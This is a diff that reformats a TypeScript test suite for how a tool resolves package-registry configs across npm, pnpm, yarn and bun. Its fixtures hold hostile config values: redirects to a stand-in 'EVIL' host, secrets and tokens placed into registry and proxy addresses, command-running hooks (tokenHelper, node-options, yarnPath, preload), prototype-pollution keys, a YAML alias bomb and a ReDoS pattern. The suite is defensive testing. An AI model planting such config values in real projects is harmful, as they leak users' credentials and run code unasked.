@@ -13,9 +13,23 @@ const USERS = "users-own-token";
 const SECRET = "hush-hush";
 const NAMES = ["leftpad", "@s/x"];
 
-const MANAGERS = { npm: "npm@11.19.1", pnpm: "pnpm@11.28.10", "pnpm 9": "pnpm@9.15.9", yarn: "yarn@4.18.1", "yarn 1": "yarn@1.22.22", bun: "bun@1.4.4" } as const;
+const MANAGERS = {
+  npm: "npm@11.19.1",
+  pnpm: "pnpm@11.28.10",
+  "pnpm 9": "pnpm@9.15.9",
+  yarn: "yarn@4.18.1",
+  "yarn 1": "yarn@1.22.22",
+  bun: "bun@1.4.4",
+} as const;
 type Manager = keyof typeof MANAGERS;
-const FILES: Readonly<Record<Manager, string>> = { npm: ".npmrc", pnpm: "pnpm-workspace.yaml", "pnpm 9": ".npmrc", yarn: ".yarnrc.yml", "yarn 1": ".yarnrc", bun: "bunfig.toml" };
+const FILES: Readonly<Record<Manager, string>> = {
+  npm: ".npmrc",
+  pnpm: "pnpm-workspace.yaml",
+  "pnpm 9": ".npmrc",
+  yarn: ".yarnrc.yml",
+  "yarn 1": ".yarnrc",
+  bun: "bunfig.toml",
+};
 
 let world: World;
 /** The user's own registry, with a login. */
@@ -27,9 +41,17 @@ beforeEach(async () => {
   world = new World();
   good = await startRegistry();
   for (const name of NAMES) good.publish(name, "1.0.0", { at: "2024-01-01T00:00:00Z" });
-  evil = await startLoopback((request) => request, () => json(404, {}));
+  evil = await startLoopback(
+    (request) => request,
+    () => json(404, {}),
+  );
   world.write("home/.npmrc", filled(`registry=GOOD\n//#good#/:_authToken=${USERS}\n`));
-  world.write("home/.yarnrc.yml", filled(`npmRegistryServer: "GOOD"\nnpmRegistries:\n  "//#good#":\n    npmAlwaysAuth: true\n    npmAuthToken: ${USERS}\n`));
+  world.write(
+    "home/.yarnrc.yml",
+    filled(
+      `npmRegistryServer: "GOOD"\nnpmRegistries:\n  "//#good#":\n    npmAlwaysAuth: true\n    npmAuthToken: ${USERS}\n`,
+    ),
+  );
 });
 
 afterEach(async () => {
@@ -54,13 +76,18 @@ function manage(manager: Manager): void {
 async function look(trusted: boolean, env: Readonly<Record<string, string>> = {}): Promise<readonly string[]> {
   const outcomes: string[] = [];
   const own = Object.fromEntries(Object.entries(env).map(([name, text]) => [name, filled(text)]));
-  const ports = world.ports({ trusted, limits: { timeout: 2000, tries: 1 }, env: { ...world.env, SECRET, NPM_TOKEN: SECRET, ...own } });
+  const ports = world.ports({
+    trusted,
+    limits: { timeout: 2000, tries: 1 },
+    env: { ...world.env, SECRET, NPM_TOKEN: SECRET, ...own },
+  });
   for (const name of NAMES) {
     const registry = await ports.registry.resolve(name, world.projectUri);
     const facts = await ports.registry.packageFacts({ name, registry }, "full", NEVER);
     outcomes.push(facts.known ? "known" : facts.code);
     const tarball = facts.known ? facts.value.releases.get("1.0.0")?.tarball : null;
-    if (typeof tarball === "string") await ports.registry.tarballModified({ name, registry, version: "1.0.0" }, tarball, NEVER);
+    if (typeof tarball === "string")
+      await ports.registry.tarballModified({ name, registry, version: "1.0.0" }, tarball, NEVER);
     await ports.advisories.lookup([{ name, version: "1.0.0", registry }], NEVER);
   }
   return outcomes;
@@ -73,7 +100,14 @@ const askedGood = () => NAMES.filter((name) => good.requests.some((request) => r
 /** What comes of it in a trusted workspace. `evil`: asked, as the manager would, with nothing of the user's. */
 type Trusted = "evil" | "good" | "nobody" | "nobody, good for others";
 
-type Row = readonly [hope: string, manager: Manager, files: Readonly<Record<string, string>> | string, trusted: Trusted, env?: Readonly<Record<string, string>>, untrusted?: "good" | "nobody"];
+type Row = readonly [
+  hope: string,
+  manager: Manager,
+  files: Readonly<Record<string, string>> | string,
+  trusted: Trusted,
+  env?: Readonly<Record<string, string>>,
+  untrusted?: "good" | "nobody",
+];
 
 const ROWS: readonly Row[] = [
   ["another registry", "npm", "registry=EVIL", "evil"],
@@ -82,7 +116,12 @@ const ROWS: readonly Row[] = [
   ["another registry by address", "pnpm", 'registries:\n  "EVIL":\n    scopes: ["@", "@s"]', "evil"],
   ["another registry in .npmrc", "pnpm", { ".npmrc": "registry=EVIL" }, "evil"],
   ["another registry", "yarn", 'npmRegistryServer: "EVIL"\nnpmAlwaysAuth: true', "evil"],
-  ["another registry for a scope", "yarn", 'npmScopes:\n  s:\n    npmRegistryServer: "EVIL"\n    npmAlwaysAuth: true', "evil"],
+  [
+    "another registry for a scope",
+    "yarn",
+    'npmScopes:\n  s:\n    npmRegistryServer: "EVIL"\n    npmAlwaysAuth: true',
+    "evil",
+  ],
   ["another registry for a scope", "yarn 1", '"@s:registry" "EVIL"', "evil"],
   ["another registry", "bun", '[install]\nregistry = "EVIL"\n[install.scopes]\ns = "EVIL"', "evil"],
   ["another registry in .npmrc", "bun", { ".npmrc": "registry=EVIL\n@s:registry=EVIL" }, "evil"],
@@ -103,9 +142,20 @@ const ROWS: readonly Row[] = [
   ["a secret as host", "npm", "registry=http://${SECRET}/", "nobody"],
   ["a secret as subdomain", "npm", "registry=http://${SECRET}.#evil#/", "nobody"],
   ["a secret in a scope's address", "npm", "@s:registry=EVIL${SECRET}/", "nobody, good for others"],
-  ["a secret in a scope's address", "yarn", 'npmScopes:\n  s:\n    npmRegistryServer: "EVIL${SECRET}/"', "nobody, good for others"],
+  [
+    "a secret in a scope's address",
+    "yarn",
+    'npmScopes:\n  s:\n    npmRegistryServer: "EVIL${SECRET}/"',
+    "nobody, good for others",
+  ],
   ["a secret in a scope's address", "pnpm", { ".npmrc": "@s:registry=EVIL${SECRET}/" }, "nobody, good for others"],
-  ["a secret after the user's own address", "yarn", 'npmRegistryServer: "${PLACE}@#evil#/"', "nobody", { PLACE: "http://registry.example" }],
+  [
+    "a secret after the user's own address",
+    "yarn",
+    'npmRegistryServer: "${PLACE}@#evil#/"',
+    "nobody",
+    { PLACE: "http://registry.example" },
+  ],
   ["two addresses in one", "yarn", 'npmRegistryServer: "${PLACE}${SECRET}"', "nobody", { PLACE: "EVIL" }],
   ["a user name that is a host", "npm", "registry=http://${PLACE}@#evil#/", "nobody", { PLACE: "registry.example" }],
   ["a secret in a proxy's address", "npm", "proxy=EVIL${SECRET}", "good"],
@@ -114,12 +164,43 @@ const ROWS: readonly Row[] = [
   ["a secret as a proxy's user", "pnpm", "httpProxy: http://${SECRET}:x@#evil#", "good"],
 
   ["a token that names no host", "npm", "registry=EVIL\n_authToken=${NPM_TOKEN}\nalways-auth=true", "evil"],
-  ["a token that names no host", "yarn 1", { ".npmrc": "@s:registry=EVIL\n_authToken=${NPM_TOKEN}\nalways-auth=true" }, "evil"],
+  [
+    "a token that names no host",
+    "yarn 1",
+    { ".npmrc": "@s:registry=EVIL\n_authToken=${NPM_TOKEN}\nalways-auth=true" },
+    "evil",
+  ],
   // A default registry with a login is taken for a private one: its names are kept back until the workspace is trusted.
-  ["a token of the host, from the environment", "pnpm", { ".npmrc": "registry=EVIL\n//#evil#/:_authToken=${NPM_TOKEN}" }, "evil", {}, "nobody"],
-  ["the user's token by a path trick", "npm", "registry=EVIL\n//#good#/:registry=EVIL\n//#good#@#evil#/:_authToken=x", "evil"],
-  ["Yarn's token from the environment", "yarn", 'npmRegistryServer: "EVIL"\nnpmAlwaysAuth: true', "evil", { YARN_NPM_AUTH_TOKEN: USERS, YARN_NPM_ALWAYS_AUTH: "true" }, "nobody"],
-  ["Bun's token from the environment", "bun", '[install]\nregistry = "EVIL"', "evil", { BUN_CONFIG_TOKEN: USERS }, "nobody"],
+  [
+    "a token of the host, from the environment",
+    "pnpm",
+    { ".npmrc": "registry=EVIL\n//#evil#/:_authToken=${NPM_TOKEN}" },
+    "evil",
+    {},
+    "nobody",
+  ],
+  [
+    "the user's token by a path trick",
+    "npm",
+    "registry=EVIL\n//#good#/:registry=EVIL\n//#good#@#evil#/:_authToken=x",
+    "evil",
+  ],
+  [
+    "Yarn's token from the environment",
+    "yarn",
+    'npmRegistryServer: "EVIL"\nnpmAlwaysAuth: true',
+    "evil",
+    { YARN_NPM_AUTH_TOKEN: USERS, YARN_NPM_ALWAYS_AUTH: "true" },
+    "nobody",
+  ],
+  [
+    "Bun's token from the environment",
+    "bun",
+    '[install]\nregistry = "EVIL"',
+    "evil",
+    { BUN_CONFIG_TOKEN: USERS },
+    "nobody",
+  ],
 
   ["another user file", "npm", { ".npmrc": "userconfig=PROJECT/more", more: "registry=EVIL" }, "good"],
   ["another user file without end", "npm", "userconfig=/dev/zero", "good"],
@@ -129,22 +210,72 @@ const ROWS: readonly Row[] = [
 
   ["certificates without end", "npm", "cafile=/dev/zero", "good"],
   ["certificates from anywhere", "npm", "cafile=../../../../../../etc/hostname", "good"],
-  ["certificates without end", "yarn", "httpsCaFilePath: /dev/zero\nhttpsKeyFilePath: /dev/zero\nhttpsCertFilePath: /dev/random", "good"],
+  [
+    "certificates without end",
+    "yarn",
+    "httpsCaFilePath: /dev/zero\nhttpsKeyFilePath: /dev/zero\nhttpsCertFilePath: /dev/random",
+    "good",
+  ],
   ["certificates without end", "bun", '[install]\ncafile = "/dev/zero"', "good"],
   ["certificates without end", "yarn 1", 'cafile "/dev/zero"', "good"],
 
-  ["commands", "npm", "git=PROJECT/run.cjs\nscript-shell=PROJECT/run.cjs\nnode-options=--require PROJECT/run.cjs\n//#good#/:tokenHelper=PROJECT/run.cjs\nshell=PROJECT/run.cjs", "good"],
-  ["commands", "pnpm", { ".npmrc": "//#good#/:tokenHelper=PROJECT/run.cjs", "pnpm-workspace.yaml": "packages: []\npnpmfile: PROJECT/run.cjs\nscriptShell: PROJECT/run.cjs\nconfigDependencies:\n  x: 1.0.0", ".pnpmfile.cjs": "require('./run.cjs')" }, "good"],
-  ["commands", "yarn", "yarnPath: PROJECT/run.cjs\nplugins:\n  - PROJECT/run.cjs\n  - {path: PROJECT/run.cjs, spec: EVIL}", "good"],
+  [
+    "commands",
+    "npm",
+    "git=PROJECT/run.cjs\nscript-shell=PROJECT/run.cjs\nnode-options=--require PROJECT/run.cjs\n//#good#/:tokenHelper=PROJECT/run.cjs\nshell=PROJECT/run.cjs",
+    "good",
+  ],
+  [
+    "commands",
+    "pnpm",
+    {
+      ".npmrc": "//#good#/:tokenHelper=PROJECT/run.cjs",
+      "pnpm-workspace.yaml":
+        "packages: []\npnpmfile: PROJECT/run.cjs\nscriptShell: PROJECT/run.cjs\nconfigDependencies:\n  x: 1.0.0",
+      ".pnpmfile.cjs": "require('./run.cjs')",
+    },
+    "good",
+  ],
+  [
+    "commands",
+    "yarn",
+    "yarnPath: PROJECT/run.cjs\nplugins:\n  - PROJECT/run.cjs\n  - {path: PROJECT/run.cjs, spec: EVIL}",
+    "good",
+  ],
   ["commands", "yarn 1", 'yarn-path "PROJECT/run.cjs"\n--install.use-yarnrc "PROJECT/run.cjs"', "good"],
-  ["commands", "bun", 'preload = ["PROJECT/run.cjs"]\n[install]\n[install.security]\nscanner = "PROJECT/run.cjs"\n[test]\npreload = "PROJECT/run.cjs"', "good"],
+  [
+    "commands",
+    "bun",
+    'preload = ["PROJECT/run.cjs"]\n[install]\n[install.security]\nscanner = "PROJECT/run.cjs"\n[test]\npreload = "PROJECT/run.cjs"',
+    "good",
+  ],
 
   ["references that multiply", "yarn", bomb(), "nobody"],
   ["references that multiply", "pnpm", bomb(), "nobody"],
-  ["keys into the prototype", "npm", "__proto__=x\n__proto__[registry]=EVIL\nconstructor=EVIL\n[__proto__]\nregistry=EVIL", "good"],
-  ["keys into the prototype", "pnpm", '__proto__:\n  registry: EVIL\nregistries:\n  __proto__:\n    default: EVIL\n    "@s": EVIL', "good"],
-  ["keys into the prototype", "yarn", '__proto__:\n  npmRegistryServer: EVIL\nnpmScopes:\n  __proto__:\n    npmRegistryServer: EVIL', "good"],
-  ["keys into the prototype", "bun", '[__proto__.install]\nregistry = "EVIL"\n[install.__proto__]\nregistry = "EVIL"\n[install.scopes.__proto__]\nurl = "EVIL"', "good"],
+  [
+    "keys into the prototype",
+    "npm",
+    "__proto__=x\n__proto__[registry]=EVIL\nconstructor=EVIL\n[__proto__]\nregistry=EVIL",
+    "good",
+  ],
+  [
+    "keys into the prototype",
+    "pnpm",
+    '__proto__:\n  registry: EVIL\nregistries:\n  __proto__:\n    default: EVIL\n    "@s": EVIL',
+    "good",
+  ],
+  [
+    "keys into the prototype",
+    "yarn",
+    "__proto__:\n  npmRegistryServer: EVIL\nnpmScopes:\n  __proto__:\n    npmRegistryServer: EVIL",
+    "good",
+  ],
+  [
+    "keys into the prototype",
+    "bun",
+    '[__proto__.install]\nregistry = "EVIL"\n[install.__proto__]\nregistry = "EVIL"\n[install.scopes.__proto__]\nurl = "EVIL"',
+    "good",
+  ],
   ["keys into the prototype", "yarn 1", '"__proto__" "x"\n__proto__ "EVIL"\n"__proto__:registry" "EVIL"', "good"],
   ["five million characters", "npm", "a=b\n".repeat(1_250_000), "nobody"],
   ["five million characters", "pnpm", "a: b\n".repeat(1_000_000), "nobody"],
@@ -153,23 +284,36 @@ const ROWS: readonly Row[] = [
   ["five million characters", "bun", "a = 1\n".repeat(850_000), "nobody"],
   ["variables without end", "yarn", `npmRegistryServer: "EVIL${"${a".repeat(100_000)}"`, "nobody"],
   ["broken off", "yarn", 'npmScopes:\n  s:\n    npmRegistryServer: "GOOD', "nobody"],
-  ["a pattern that takes for ever", "yarn", `networkSettings:\n  "${"*a".repeat(400)}b": {httpProxy: EVIL}\n  "(a+)+$": {httpProxy: EVIL}`, "good"],
+  [
+    "a pattern that takes for ever",
+    "yarn",
+    `networkSettings:\n  "${"*a".repeat(400)}b": {httpProxy: EVIL}\n  "(a+)+$": {httpProxy: EVIL}`,
+    "good",
+  ],
 ];
 
-const CASES = ROWS.map(([hope, manager, files, trusted, env = {}, untrusted = "good"]) => [hope, manager, files, trusted, env, untrusted] as const);
+const CASES = ROWS.map(
+  ([hope, manager, files, trusted, env = {}, untrusted = "good"]) =>
+    [hope, manager, files, trusted, env, untrusted] as const,
+);
 
 /** Nine times nine times nine… of the same text. */
 function bomb(): string {
   const lines = ["a: &a [x, x, x, x, x, x, x, x, x]"];
-  for (const [at, name] of ["b", "c", "d", "e", "f", "g", "h", "i"].entries()) lines.push(`${name}: &${name} [${new Array(9).fill(`*${"abcdefgh".charAt(at)}`).join(", ")}]`);
+  for (const [at, name] of ["b", "c", "d", "e", "f", "g", "h", "i"].entries())
+    lines.push(`${name}: &${name} [${new Array(9).fill(`*${"abcdefgh".charAt(at)}`).join(", ")}]`);
   return `${lines.join("\n")}\nnpmScopes: *i\nregistries: *i`;
 }
 
 function lay(manager: Manager, files: Row[2]): void {
   manage(manager);
   const marker = join(world.folder, "it-ran");
-  world.write("project/run.cjs", `#!/usr/bin/env node\nrequire("node:fs").writeFileSync(${JSON.stringify(marker)}, "")\n`);
-  for (const [path, text] of Object.entries(typeof files === "string" ? { [FILES[manager]]: files } : files)) world.write(`project/${path}`, filled(text));
+  world.write(
+    "project/run.cjs",
+    `#!/usr/bin/env node\nrequire("node:fs").writeFileSync(${JSON.stringify(marker)}, "")\n`,
+  );
+  for (const [path, text] of Object.entries(typeof files === "string" ? { [FILES[manager]]: files } : files))
+    world.write(`project/${path}`, filled(text));
 }
 
 describe("a workspace that is not trusted hopes for", () => {
@@ -196,7 +340,8 @@ describe("a trusted workspace hopes for", () => {
     expect(evil.requests.length > 0).toBe(trusted === "evil");
     if (trusted === "good") expect([askedGood(), logins()]).toEqual([NAMES, [`Bearer ${USERS}`]]);
     if (trusted === "nobody") expect([good.requests, outcomes]).toEqual([[], ["refused", "refused"]]);
-    if (trusted === "nobody, good for others") expect([askedGood(), outcomes]).toEqual([["leftpad"], ["known", "refused"]]);
+    if (trusted === "nobody, good for others")
+      expect([askedGood(), outcomes]).toEqual([["leftpad"], ["known", "refused"]]);
   });
 });
 
@@ -212,7 +357,9 @@ describe("a file that is none", () => {
       truncateSync(at, 1024 ** 3);
     },
   };
-  const CASES = (Object.keys(FILES) as Manager[]).flatMap((manager) => Object.keys(KINDS).map((kind) => [manager, kind] as const));
+  const CASES = (Object.keys(FILES) as Manager[]).flatMap((manager) =>
+    Object.keys(KINDS).map((kind) => [manager, kind] as const),
+  );
 
   it.each(CASES)("%s: %s is read by nobody, and holds nobody up", async (manager, kind) => {
     for (const trusted of [false, true]) {
@@ -224,7 +371,10 @@ describe("a file that is none", () => {
       await look(trusted);
       expect(evil.requests).toEqual([]);
       // npm, and those that read its file, pass over what the system does not let them read. The others stop there.
-      const isPassedOver = FILES[manager] === ".npmrc" ? kind === "a folder" || kind === "a symbolic link to itself" : manager === "yarn 1" && kind === "a folder";
+      const isPassedOver =
+        FILES[manager] === ".npmrc"
+          ? kind === "a folder" || kind === "a symbolic link to itself"
+          : manager === "yarn 1" && kind === "a folder";
       expect(good.requests.length > 0).toBe(!trusted || isPassedOver);
     }
   });
@@ -269,14 +419,22 @@ describe("a proxy that the workspace chose", () => {
 
   it("sees a login that the workspace itself gives", async () => {
     world.write("home/.npmrc", "");
-    world.write("project/.npmrc", filled("registry=http://inner.example/\nproxy=EVIL\n//inner.example/:_authToken=projects\n"));
+    world.write(
+      "project/.npmrc",
+      filled("registry=http://inner.example/\nproxy=EVIL\n//inner.example/:_authToken=projects\n"),
+    );
     const { connection } = await configs().resolve("x", world.projectUri);
     expect(connection.to("http://inner.example/x").authorization).toBe("Bearer projects");
   });
 });
 
 function configs(env: NodeJS.ProcessEnv = {}, trusted = true): RegistryConfigs {
-  return new RegistryConfigs({ trusted, registry: null, env: { ...world.env, ...env }, log: { info: () => undefined, warn: (message) => world.warnings.push(message) } });
+  return new RegistryConfigs({
+    trusted,
+    registry: null,
+    env: { ...world.env, ...env },
+    log: { info: () => undefined, warn: (message) => world.warnings.push(message) },
+  });
 }
 
 describe("a client certificate of the user's", () => {
@@ -294,16 +452,23 @@ describe("a variable of the environment in a trusted workspace's file", () => {
   it.each([
     ["npm", "registry=https://inner.example/\n//inner.example/:_authToken=${NPM_TOKEN}", "Bearer from-env"],
     ["pnpm 9", "registry=https://inner.example/\n//inner.example/:_authToken=${NPM_TOKEN}", "Bearer from-env"],
-    ["yarn", "npmRegistryServer: https://inner.example/\nnpmAuthToken: ${NPM_TOKEN}\nnpmAlwaysAuth: true", "Bearer from-env"],
+    [
+      "yarn",
+      "npmRegistryServer: https://inner.example/\nnpmAuthToken: ${NPM_TOKEN}\nnpmAlwaysAuth: true",
+      "Bearer from-env",
+    ],
     ["bun", '[install]\nregistry = { url = "https://inner.example/", token = "$NPM_TOKEN" }', "Bearer from-env"],
-  ] as const)("may be the login of the host that the file names, as the manager has it (%s)", async (manager, text, authorization) => {
-    manage(manager);
-    world.write(`project/${FILES[manager]}`, text);
-    const { url, connection } = await configs({ NPM_TOKEN: "from-env" }).resolve("x", world.projectUri);
-    expect([url, connection.to(`${url}x`).authorization]).toEqual(["https://inner.example/", authorization]);
-    const held = await configs({ NPM_TOKEN: "from-env" }, false).resolve("x", world.projectUri);
-    expect(held.refused === null && held.connection.to("https://inner.example/x").authorization !== null).toBe(false);
-  });
+  ] as const)(
+    "may be the login of the host that the file names, as the manager has it (%s)",
+    async (manager, text, authorization) => {
+      manage(manager);
+      world.write(`project/${FILES[manager]}`, text);
+      const { url, connection } = await configs({ NPM_TOKEN: "from-env" }).resolve("x", world.projectUri);
+      expect([url, connection.to(`${url}x`).authorization]).toEqual(["https://inner.example/", authorization]);
+      const held = await configs({ NPM_TOKEN: "from-env" }, false).resolve("x", world.projectUri);
+      expect(held.refused === null && held.connection.to("https://inner.example/x").authorization !== null).toBe(false);
+    },
+  );
 
   it.each([
     ["npm", "registry=https://inner.example/\n//inner.example/:_authToken=${NOT_SET}"],
